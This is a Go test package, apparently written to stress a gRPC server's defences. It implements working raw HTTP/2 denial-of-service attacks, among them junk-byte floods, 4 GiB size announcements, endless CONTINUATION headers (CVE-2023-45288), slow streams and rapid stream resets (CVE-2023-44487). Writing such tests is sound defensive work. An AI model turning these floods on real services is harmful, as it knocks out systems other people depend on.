// Package hostile plays callers that mean ill to a gRPC server, for tests and
// measurements of its defences. They speak raw HTTP/2 in plain text, and come
// back as soon as they are cut off.
package hostile

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"math/rand/v2"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is one way of being a nuisance.
type Attack struct {
	Name string
	once func(ctx context.Context, target string, made *atomic.Uint64) error // over one connection
}

// Tally counts what an attack does, while it does it.
type Tally struct {
	Acts        atomic.Uint64 // in units of the attack; those on their way are included
	Connections atomic.Uint64 // made, one after the other; all but the last have been cut off
}

// Method is what the attacks call: a stream of batches, in protobuf. Its
// second field is bytes of payloads and its third their packed sizes.
const Method = "/chaindyno.chain.v1.Chain/SubmitStream"

// Attacks are all there are.
func Attacks() []Attack {
	return []Attack{
		{"bytes", raw(junkBytes)},
		{"batches", junkBatches},
		{"oversize", raw(oversize)},
		{"headers", raw(endlessHeaders)},
		{"slow", raw(slowStreams)},
		{"resets", raw(rapidResets)},
	}
}

// Run attacks host:port over one connection at a time until ctx ends.
func (a Attack) Run(ctx context.Context, target string, t *Tally) {
	for ctx.Err() == nil {
		t.Connections.Add(1)
		err := a.once(ctx, target, &t.Acts)
		var op *net.OpError
		if errors.As(err, &op) && op.Op == "dial" {
			wait(ctx, 10*time.Millisecond) // the listen queue is full, or nobody is there
		}
	}
}

func wait(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}

// caller is one connection.
type caller struct {
	net.Conn
	ctx  context.Context
	out  *bufio.Writer
	fr   *http2.Framer
	made *atomic.Uint64
	next uint32 // stream

	mu     sync.Mutex
	credit int           // bytes that the server is willing to take, of all streams
	more   chan struct{} // receives when credit has grown
}

// raw turns what is done over a connection into an attack.
func raw(do func(*caller) error) func(context.Context, string, *atomic.Uint64) error {
	return func(ctx context.Context, target string, made *atomic.Uint64) error {
		var d net.Dialer
		conn, err := d.DialContext(ctx, "tcp", target)
		if err != nil {
			return err
		}
		defer conn.Close()
		defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
		c := &caller{Conn: conn, ctx: ctx, out: bufio.NewWriterSize(conn, 64<<10), made: made, next: 1, credit: 65535, more: make(chan struct{}, 1)}
		c.fr = http2.NewFramer(c.out, conn)
		reading := make(chan struct{})
		go func() {
			defer close(reading)
			c.read()
			_ = conn.Close()
		}()
		err = do(c)
		_ = conn.Close()
		<-reading
		return err
	}
}

// read takes in what the server says, and notes how much more it will take.
func (c *caller) read() {
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			return
		}
		if w, ok := f.(*http2.WindowUpdateFrame); ok && w.StreamID == 0 {
			c.mu.Lock()
			c.credit += int(w.Increment)
			c.mu.Unlock()
			select {
			case c.more <- struct{}{}:
			default:
			}
		}
	}
}

// greet opens the connection as HTTP/2 wants it.
func (c *caller) greet() error {
	if _, err := c.out.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := c.fr.WriteSettings(); err != nil {
		return err
	}
	return c.fr.WriteSettingsAck()
}

// headers encodes those of a call, without a table, so that any stream's can
// be written at any time.
func headers() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", Method}, {":authority", "node"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // into memory
	}
	return b.Bytes()
}

// open begins a call and returns its stream.
func (c *caller) open(block []byte) (uint32, error) {
	id := c.next
	c.next += 2
	return id, c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
}

// spend waits until the server takes n bytes more.
func (c *caller) spend(n int) error {
	for {
		c.mu.Lock()
		enough := c.credit >= n
		if enough {
			c.credit -= n
		}
		c.mu.Unlock()
		if enough {
			return nil
		}
		if err := c.out.Flush(); err != nil {
			return err
		}
		select {
		case <-c.more:
		case <-c.ctx.Done():
			return c.ctx.Err()
		case <-time.After(time.Second):
			return io.ErrShortWrite // it takes no more: try anew
		}
	}
}

// junkBytes writes noise, in turns before and after the greeting.
func junkBytes(c *caller) error {
	if rand.N(2) == 0 {
		if err := c.greet(); err != nil {
			return err
		}
	}
	noise := make([]byte, 16<<10)
	seed := rand.NewChaCha8([32]byte{1, byte(rand.N(256))})
	for {
		_, _ = seed.Read(noise)
		if _, err := c.out.Write(noise); err != nil {
			return err
		}
		c.made.Add(1)
	}
}

// oversize announces messages of 4 GiB.
func oversize(c *caller) error {
	if err := c.greet(); err != nil {
		return err
	}
	block := headers()
	for {
		id, err := c.open(block)
		if err != nil {
			return err
		}
		if err := c.spend(5); err != nil {
			return err
		}
		if err := c.fr.WriteData(id, false, []byte{0, 0xff, 0xff, 0xff, 0xff}); err != nil {
			return err
		}
		c.made.Add(1)
	}
}

// endlessHeaders never comes to the end of its headers (CVE-2023-45288).
func endlessHeaders(c *caller) error {
	if err := c.greet(); err != nil {
		return err
	}
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSize(0)
	for b.Len() < 16_000 {
		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: "0123456789abcdef"}) // into memory
	}
	if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers()}); err != nil {
		return err
	}
	for {
		if err := c.fr.WriteContinuation(1, false, b.Bytes()); err != nil {
			return err
		}
		c.made.Add(1)
	}
}

// Of slowStreams: how many, and how much of each message is sent at once. The
// rest of it comes byte by byte and never ends.
const (
	slowMost  = 64
	slowFirst = 512 << 10
	slowPart  = 16 << 10
	slowPause = 50 * time.Millisecond
)

// slowStreams keeps as many calls open as it may, each with most of a message.
func slowStreams(c *caller) error {
	if err := c.greet(); err != nil {
		return err
	}
	block, part := headers(), make([]byte, slowPart)
	for range slowMost {
		id, err := c.open(block)
		if err != nil {
			return err
		}
		if err := c.data(id, []byte{0, 0, 0x1f, 0xff, 0xff}); err != nil {
			return err
		}
		for sent := 0; sent < slowFirst; sent += len(part) {
			if err := c.data(id, part); err != nil {
				return err
			}
		}
		c.made.Add(1)
	}
	for {
		for i := range uint32(slowMost) {
			if err := c.data(1+2*i, part[:1]); err != nil {
				return err
			}
		}
		if err := c.out.Flush(); err != nil {
			return err
		}
		if wait(c.ctx, slowPause); c.ctx.Err() != nil {
			return c.ctx.Err()
		}
	}
}

func (c *caller) data(id uint32, b []byte) error {
	if err := c.spend(len(b)); err != nil {
		return err
	}
	return c.fr.WriteData(id, false, b)
}

// rapidResets opens calls and resets them at once (CVE-2023-44487).
func rapidResets(c *caller) error {
	if err := c.greet(); err != nil {
		return err
	}
	block := headers()
	for {
		id, err := c.open(block)
		if err != nil {
			return err
		}
		if err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		c.made.Add(1)
	}
}
